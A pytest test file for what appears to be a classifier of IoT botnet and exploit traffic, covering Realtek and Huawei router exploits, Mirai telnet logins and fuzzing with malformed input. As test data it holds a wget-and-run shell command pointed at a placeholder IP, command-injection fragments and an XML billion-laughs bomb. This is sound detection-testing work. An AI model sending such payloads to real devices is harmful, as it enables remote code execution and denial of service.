"""classify(): the simulator's sessions come out right, and hostile input is harmless."""

from __future__ import annotations

import doctest
import importlib
import json
import socket
from collections import defaultdict
from pathlib import Path
from typing import Any

import dpkt
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from teiten.classify import classify, detect_app, explain
from teiten.classify.mirai_credentials import MIRAI_PAIRS
from teiten.simulate import SimulationResult
from teiten.simulate.payloads import (
    MIRAI_CREDENTIALS,
    REALTEK_VARIANTS,
    huawei_request,
    realtek_request,
    telnet_script,
    upnp_request,
)

Key = tuple[str, int, str, int]
SIM_ONLY_PAIRS = MIRAI_CREDENTIALS - MIRAI_PAIRS
"""Pairs the simulator calls Mirai's that scanner.c's bytes do not hold (test_classify_telnet)."""


def _indicators(c: Any) -> dict[str, set[str]]:
    return {"urls": {i.value for i in c.indicators if i.type == "url"},
            "hosts": {i.value for i in c.indicators if i.type in ("ip", "domain")}}  # fmt: skip


def _expected_logins(facts: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    return [(x["username"], x["password"], x["success"],
             x["mirai_dict"] and (x["username"], x["password"]) not in SIM_ONLY_PAIRS)
            for x in facts]  # fmt: skip


@pytest.mark.parametrize("variant", range(len(REALTEK_VARIANTS)))
def test_simulated_realtek_variants(variant: int) -> None:
    for seed in range(5):
        request, facts = realtek_request(np.random.default_rng(seed), "203.0.113.5:52869", variant)
        c = classify(request, dst_port=52869)
        assert c.kind == "exploit" and c.signatures == ("sig.realtek-miniigd-soap-cve-2014-8361",)
        assert list(c.cves) == facts["cves"] and c.jvn == ("JVNDB-2014-008039",)
        assert _indicators(c) == {k: set(v) for k, v in facts["indicators"].items()}
        (r,) = c.requests
        assert r.http.path == facts["request"]["path"].partition("?")[0]
        assert r.soap is not None and r.soap.action == "AddPortMapping"


def test_simulated_benign_and_huawei() -> None:
    for variant in range(10):
        rng = np.random.default_rng(variant)
        c = classify(upnp_request(rng, "203.0.113.5:52869", variant)[0])
        assert (c.kind, c.signatures, c.cves, c.indicators) == (
            "benign", ("sig.upnp-addportmapping-benign",), (), ())  # fmt: skip
        request, facts = huawei_request(rng, "203.0.113.6:37215", variant)
        h = classify(request)
        assert list(h.cves) == facts["cves"] and h.kind == "exploit"
        assert _indicators(h) == {k: set(v) for k, v in facts["indicators"].items()}


def test_simulated_telnet_logins() -> None:
    for variant in range(40):
        script, facts = telnet_script(np.random.default_rng(variant), variant)
        client = b"".join(d for from_client, d in script if from_client)
        server = b"".join(d for from_client, d in script if not from_client)
        c = classify(client, dst_port=23, server_bytes=server)
        got = [(x.username, x.password, x.success, x.mirai_dict) for x in c.logins]
        assert got == _expected_logins(facts["logins"])
        assert c.to_dict()["telnet"]["commands"] == facts["commands"]
        assert c.kind == ("bot" if facts["commands"] else None)


def _streams(pcap: Path) -> dict[Key, bytes]:
    """Each direction's TCP payload per connection, reassembled by sequence number."""
    segments: defaultdict[Key, dict[int, bytes]] = defaultdict(dict)
    with pcap.open("rb") as fh:
        for _, buf in dpkt.pcap.Reader(fh):
            ip = dpkt.ethernet.Ethernet(buf).data
            tcp = ip.data
            if isinstance(tcp, dpkt.tcp.TCP) and tcp.data:
                key = (socket.inet_ntoa(ip.src), tcp.sport, socket.inet_ntoa(ip.dst), tcp.dport)
                segments[key][tcp.seq] = bytes(tcp.data)
    return {k: b"".join(v[s] for s in sorted(v)) for k, v in segments.items()}


def test_smoke_capture_sessions_match_the_truth(smoke: SimulationResult) -> None:
    truth = json.loads(smoke.truth.read_text())
    streams = _streams(smoke.pcap)
    kinds = set()
    for s in truth["sessions"]:
        client = streams[(s["src"], s["sport"], s["dst"], s["dport"])]
        server = streams.get((s["dst"], s["dport"], s["src"], s["sport"]), b"")
        c = classify(client, dst_port=s["dport"], server_bytes=server)
        kinds.add(s["kind"])
        assert sorted(c.cves) == sorted(s["cves"]), s["kind"]
        assert _indicators(c) == {k: set(v) for k, v in s["indicators"].items()}
        if s["kind"] == "benign.upnp":
            assert c.signatures == ("sig.upnp-addportmapping-benign",) and c.kind == "benign"
        elif s["kind"].startswith("exploit."):
            assert c.kind == "exploit"
        else:
            got = [(x.username, x.password, x.success, x.mirai_dict) for x in c.logins]
            assert got == _expected_logins(s["logins"])
    assert kinds == {"exploit.realtek-miniigd", "benign.upnp", "exploit.huawei-hg532",
                     "telnet.login"}  # fmt: skip


def test_detect_app() -> None:
    assert detect_app(b"POST / HTTP/1.1\r\n") == "http"
    assert detect_app(b"\xff\xfb\x1f") == "telnet"
    assert detect_app(b"root\r\n", dst_port=2323) == "telnet"
    assert detect_app(b"root\r\n", server=b"\r\nlogin: ") == "telnet"
    assert detect_app(b"\x16\x03\x01\x00") == "unknown"


def test_unknown_app_still_yields_indicators() -> None:
    c = classify(b"cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh\n", dst_port=5555)
    assert c.app == "unknown" and c.kind is None
    assert ("url", "http://198.51.100.9/x.sh") in [(i.type, i.value) for i in c.indicators]


HOSTILE = [
    b"",
    b"\x00" * 70_000,
    bytes(range(256)) * 300,
    b"GET / HTTP/1.1\r\nX: " + b"\xff\xfe" * (1 << 19) + b"\r\n\r\n",
    b"POST /picdesc.xml HTTP/1.1\r\nSOAPAction: x\r\n\r\n" + b"<a>" * 40_000,
    b"GET /" + b"%" * 60_000 + b" HTTP/1.1\r\n\r\n",
    b"\xff\xfa" + b"\x00" * 10_000,
    b"\xff" * 10_001,
]


@pytest.mark.parametrize("data", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_is_harmless(data: bytes) -> None:
    for port in (None, 23, 52869):
        c = classify(data, dst_port=port, server_bytes=data[:1000] or None)
        json.dumps(c.to_dict()).encode("utf-8")  # JSON-ready and valid UTF-8


def test_billion_laughs_in_a_request_is_refused() -> None:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{entities}]>'
            '<u:AddPortMapping xmlns:u="x"><NewInternalClient>&l9;</NewInternalClient>'
            "</u:AddPortMapping>").encode()  # fmt: skip
    request = b"POST /picdesc.xml HTTP/1.1\r\nSOAPAction: x#AddPortMapping\r\n"
    request += b"Content-Length: %d\r\n\r\n%s" % (len(bomb), bomb)
    (r,) = classify(request).requests
    assert r.soap is not None and "DTDForbidden" in r.soap.notes[0]
    assert r.soap.arguments == {"NewInternalClient": "&l9;"}  # never expanded


@settings(max_examples=200)
@given(st.binary(max_size=3000), st.sampled_from([None, 23, 80, 52869]),
       st.none() | st.binary(max_size=300))  # fmt: skip
def test_arbitrary_bytes_never_raise(data: bytes, port: int | None, server: bytes | None) -> None:
    c = classify(data, dst_port=port, server_bytes=server)
    json.dumps(c.to_dict()).encode("utf-8")


@given(st.lists(st.sampled_from([
    b"POST /picdesc.xml HTTP/1.1\r\n", b"SOAPAction: x#AddPortMapping\r\n", b"\r\n",
    b"Content-Length: 40\r\n", b"<u:AddPortMapping>", b"<NewInternalClient>", b"`wget ",
    b"http://198.51.100.7/a", b"</NewInternalClient>", b"&amp;", b"<!DOCTYPE a>", b"\xff\xfb",
    b"root\r\n", b"/bin/busybox ECCHI\r\n", b"%60", b"${IFS}", b";",
]), max_size=40))  # fmt: skip
def test_payload_shaped_input_never_raises(parts: list[bytes]) -> None:
    data = b"".join(parts)
    json.dumps(explain(data, dst_port=52869).classification.to_dict())


@pytest.mark.parametrize(
    "module", ["classifier", "http", "indicators", "mirai_credentials", "signatures", "soap",
               "telnet"],
)  # fmt: skip
def test_docstring_examples(module: str) -> None:
    m = importlib.import_module(f"teiten.classify.{module}")
    result = doctest.testmod(m)
    assert result.failed == 0 and result.attempted > 0
